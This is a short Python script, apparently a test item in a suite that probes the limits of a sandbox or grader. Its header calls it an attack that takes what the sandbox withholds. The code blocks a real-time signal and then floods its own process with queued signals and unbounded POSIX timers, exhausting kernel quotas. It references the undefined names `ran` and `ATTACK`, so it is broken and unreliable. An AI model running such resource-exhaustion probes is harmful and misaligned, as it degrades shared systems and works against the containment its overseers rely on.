"""Sends itself thousands of signals that it does not take, and makes timers without end, which the kernel
keeps."""

# /// attack
# ran = ["after total"]
# opened = { "limits of who grades" = ["took what the sandbox keeps from it"] }
# ///
# %% after total
import ctypes
import os
import signal

libc = ctypes.CDLL(None)
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
MOST, queued, timers = 6000, 0, 0
while queued < MOST and libc.sigqueue(os.getpid(), signal.SIGRTMIN, ctypes.c_void_p(0)) == 0:
    queued += 1
timer = ctypes.c_void_p()
while timers < MOST and libc.timer_create(0, None, ctypes.byref(timer)) == 0:
    timers += 1
if queued > 100:
    ran("after total")
if queued + timers >= MOST:
    print("took " + ATTACK["process_tag"])
